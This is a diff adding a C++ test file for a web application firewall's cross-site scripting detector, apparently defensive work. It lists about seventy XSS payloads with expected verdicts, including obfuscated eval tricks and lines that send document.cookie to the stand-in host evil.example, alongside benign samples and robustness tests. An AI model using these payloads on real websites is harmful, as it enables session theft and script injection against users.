@@ -1,0 +1,227 @@
+#include "detect/analyze/xss.h"
+
+#include <gtest/gtest.h>
+
+#include "detect/core/octets.h"
+#include "tests/detect/analyze/analyze_support.h"
+
+namespace wafd::detect {
+namespace {
+
+struct Row {
+  const char* text;
+  const char* verdict;
+};
+
+constexpr Row kAttacks[] = {
+    // Elements
+    {"<script>steal()</script>", "low"},
+    {"<ScRiPt src=//evil.example/x.js></sCrIpT>", "low"},
+    {"<script/x=1 src='//evil.example'>", "low"},
+    {"</title><svg><script>1</script>", "low"},
+    {"<svg:script href=data:,alert(1) />", "low"},
+    {"<base href=//evil.example/>", "balanced"},
+    {"<object data=//evil.example/m.swf type=text/html></object>", "balanced"},
+    {"<embed src=//evil.example/m.swf>", "balanced"},
+    {"<meta http-equiv=refresh content='0;url=//evil.example'>", "balanced"},
+    {"<meta charset=utf-7>", "balanced"},
+    {"<iframe srcdoc='<p>x'></iframe>", "low"},
+    {"<iframe src=//evil.example></iframe>", "strict"},
+    // Handlers
+    {"<img src=x onerror=alert(1)>", "low"},
+    {"<img/src=x\tonerror\n=\nconfirm`1`>", "low"},
+    {"<details open ontoggle=import('//evil.example')>", "low"},
+    {"<anything onwebkitnewthing=prompt(2)>", "low"},
+    {"<b onbeforeinput=eval(name) contenteditable>x", "low"},
+    {"<x onclick=location=name>", "low"},
+    {"<body onload=\"top['al'+'ert'](1)\">", "low"},
+    {"<input autofocus onfocus=x>", "balanced"},
+    {"<svg onload=&#97;lert(1)>", "low"},
+    {"\" onmouseover=\"alert(1)", "balanced"},
+    {"x' onfocus=alert(1) autofocus y='", "balanced"},
+    {"javascript onpointerenter=confirm(1) ' ", "balanced"},
+    // URLs
+    {"<a href=javascript:alert(1)>x</a>", "low"},
+    {"<a href=\" \x01JaVa\tScRiPt\n:alert(1)\">x</a>", "low"},
+    {"<a href='&#x6a;avascript&colon;alert(1)'>x</a>", "low"},
+    {"<form><button formaction=vbscript:msgbox(1)>", "low"},
+    {"<svg><animate attributeName=href values='x;javascript:alert(1)'>", "low"},
+    {"<iframe src='data:text/html;base64,PHNjcmlwdD4='>", "balanced"},
+    {"<use href='data:image/svg+xml,x#y'>", "balanced"},
+    {"javascript:alert(document.cookie)", "low"},
+    {"  jav\tascript:fetch('//evil.example/'+document.cookie)", "low"},
+    {"data:text/html,<p>x", "balanced"},
+    {"[click](javascript:alert(1))", "low"},
+    // Style
+    {"<div style='width:exp/**/ression(alert(1))'>", "balanced"},
+    {"<p style=\"background:url('javascript:alert(1)')\">", "low"},
+    {"<style>b{-moz-binding:url(//evil.example/x.xml#y)}</style>", "balanced"},
+    // Script that leaves a string
+    {"';alert(1)//", "balanced"},
+    {"\"-prompt(1)-\"", "balanced"},
+    {"\\';confirm(1)//", "balanced"},
+    {"*/alert(1)/*", "balanced"},
+    {"\"}]};alert(1);//", "balanced"},
+    {"${alert(1)}", "balanced"},
+    {"'+fetch('//evil.example/'+document.cookie)+'", "balanced"},
+    {"'^alert(1)^'", "balanced"},
+    {"');document.write('<i>", "balanced"},
+    // Script by itself
+    {"alert(1)", "balanced"},
+    {"(0,eval)('1')", "balanced"},
+    {"alert?.(1)", "balanced"},
+    {"setTimeout`alert\\x281\\x29`", "balanced"},
+    {"location='javascript:alert\\x281)'", "balanced"},
+    {"[1].map(alert)", "balanced"},
+    {"onerror=alert;throw 1", "balanced"},
+    {"x=eval;x('1')", "balanced"},
+    {"new Function('a')()", "balanced"},
+    // Hidden
+    {"window['al'+'ert'](1)", "balanced"},
+    {"top[/al/.source+/ert/.source](1)", "balanced"},
+    {"self['\\x61\\x6c\\x65rt'](1)", "balanced"},
+    {"frames[`ev`+`al`]('1')", "balanced"},
+    {"this[/*a*/'alert'/*b*/](1)", "balanced"},
+    {"\\u0061lert(1)", "balanced"},
+    {"[]['fill']['constructor']('alert(1)')()", "balanced"},
+    {"''.sub.constructor('alert(1)')()", "balanced"},
+    {"constructor.constructor('alert(1)')()", "balanced"},
+    {"{}.__proto__.constructor.constructor('alert(1)')", "balanced"},
+    {"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", "balanced"},
+    // Templates
+    {"{{constructor.constructor('alert(1)')()}}", "balanced"},
+    {"{{$on.constructor('alert(1)')()}}", "balanced"},
+    {"{{_c.constructor('alert(1)')()}}", "balanced"},
+    {"<div v-html=\"alert(1)\"></div>", "balanced"},
+    {"document.cookie", "balanced"},
+};
+
+constexpr Row kBenign[] = {
+    {"<p>Hello <b>world</b>, <a href=\"https://shop.example/a?b=c\">here</a> is <i>it</i>.</p>", "-"},
+    {"<img src=\"https://cdn.example/a.png\" alt=\"a cat\">", "-"},
+    {"<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "-"},
+    {"<a href=\"javascript:void(0);\" class=\"x\">menu</a>", "-"},
+    {"<table border=1><tr><td style=\"color:red\">1</td></tr></table>", "-"},
+    {"<custom-element only=\"1\" once ontology=x>", "-"},
+    {"I <3 this; a < b && c > d", "-"},
+    {"if (a<b || c>d) return", "-"},
+    {"x <y and z> w", "-"},
+    {"Please alert (all) the staff and confirm (today).", "-"},
+    {"He said \"alert the press\" and 'confirm it'.", "-"},
+    {"The eval was fine, open (daily) from 9", "-"},
+    {"Hello {{name}}, your total is ${price}.", "-"},
+    {"{{ user.first_name | capitalize }}", "-"},
+    {"<span>{{ item.count + 1 }}</span>", "-"},
+    {"JavaScript: The Good Parts", "-"},
+    {"JavaScript: the good parts (2nd edition)", "-"},
+    {"data: text, html and more", "-"},
+    {"see location = London; time = noon", "-"},
+    {"{\"type\":\"click\",\"items\":[[1,2],[3,4]],\"fn\":null}", "-"},
+    {"users[0][name]", "-"},
+    {"window.open", "-"},
+    {"## Use\n```js\nconst a = items.map(x => x.id);\n```\n", "-"},
+    {"function add(a, b) { return a + b; }", "-"},
+    {"class A { constructor(props) { super(props); this.x = props.x; } }", "-"},
+    {"e.prototype.constructor=e", "-"},
+    {"O'Brien and D'Angelo", "-"},
+    {"10' x 12' [wood]", "-"},
+    {"- [ ] todo - [x] done [](x)", "-"},
+    {"+1 (555) 123-4567", "-"},
+    {"Größe: 5\" x 7\"; élan", "-"},
+    {"请确认(1) 谢谢", "-"},
+    {"a[b]=c&d[e]=f", "-"},
+    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 "
+     "Safari/537.36",
+     "-"},
+    {"[[],[],{}]", "-"},
+    {"background: url(/img/a.png)", "-"},
+};
+
+TEST(Xss, AttacksInAQuery) {
+  const auto analyzer = make_xss_analyzer();
+  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(*analyzer, row.text), row.verdict) << row.text;
+}
+
+TEST(Xss, BenignTextInABody) {
+  const auto analyzer = make_xss_analyzer();
+  for (const Row& row : kBenign)
+    EXPECT_EQ(verdict_of(*analyzer, row.text, Location::kBody), row.verdict) << row.text;
+}
+
+TEST(Xss, BenignTextInAQueryPassesAtBalanced) {
+  const auto analyzer = make_xss_analyzer();
+  for (const Row& row : kBenign)
+    EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, row.text))) << row.text;
+}
+
+TEST(Xss, WholeDocumentsAreForStrict) {
+  const auto analyzer = make_xss_analyzer();
+  std::string page = "<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>t</title>";
+  page += "<link rel=stylesheet href=a.css></head><body>" + std::string(300, 'x');
+  page += "<script>const app = document.getElementById('app');</script></body></html>";
+  EXPECT_EQ(verdict_of(*analyzer, page, Location::kBody), "strict");
+  EXPECT_EQ(verdict_of(*analyzer, page, Location::kQuery), "low");
+  page += "<script>alert(document.cookie)</script>";
+  EXPECT_EQ(verdict_of(*analyzer, page, Location::kBody), "low");
+}
+
+TEST(Xss, FileContentIsForStrict) {
+  const auto analyzer = make_xss_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "<script>alert(1)</script>", Location::kFile), "strict");
+  EXPECT_EQ(verdict_of(*analyzer, "<script>alert(1)</script>", Location::kFile, true), "low");
+}
+
+// Case, white space and separators that a browser does not care about.
+std::string respell(std::string_view text, Dice& dice) {
+  std::string out;
+  bool in_tag_name = false;
+  for (const char c : text) {
+    if (c == '<') in_tag_name = true;
+    if (in_tag_name && is_alpha(c)) {
+      out.push_back(dice.roll(2) == 0 ? static_cast<char>(is_lower(c) ? c - 32 : c) : c);
+      continue;
+    }
+    if (c == ' ' && in_tag_name) {
+      out += std::string_view("\t\n\f\r /", 6)[dice.roll(6)];
+      in_tag_name = false;
+      continue;
+    }
+    if (c == '>') in_tag_name = false;
+    out.push_back(c);
+  }
+  return out;
+}
+
+TEST(Xss, VariationsStayDenied) {
+  const auto analyzer = make_xss_analyzer();
+  std::size_t made = 0;
+  for (const Row& row : kAttacks) {
+    if (std::string_view(row.verdict) == "strict") continue;
+    for (std::uint64_t seed = 1; seed <= 8; ++seed) {
+      Dice dice(seed);
+      const std::string base = respell(row.text, dice);
+      for (const std::string& text : {base, "1234 " + base, "\n" + base, base + " x"}) {
+        // What must stand at the start of a value does not survive a prefix.
+        const bool prefixed = text.size() > base.size() && text.front() == '1';
+        if (prefixed && (base.find('<') == std::string::npos || base.starts_with("data:"))) continue;
+        EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << row.text << " as " << text;
+        ++made;
+      }
+    }
+  }
+  EXPECT_GT(made, 1000u);
+}
+
+TEST(Xss, TimeIsLinearOnHostileText) {
+  const auto analyzer = make_xss_analyzer();
+  for (const char* unit : {"<a ", "<a<", "\"", "'\\'", "/[", "[", "(", "<style>", "<script>", " onx=",
+                           " onload=", ";\t", "{{", "a[\"b\"+", "javascript:", "`${", "<!--", "/*"}) {
+    std::string text;
+    while (text.size() < 300000) text += unit;
+    verdict_of(*analyzer, text,
+               Location::kBody);  // the test's time limit is the assertion: quadratic takes minutes
+  }
+}
+
+}  // namespace
+}  // namespace wafd::detect
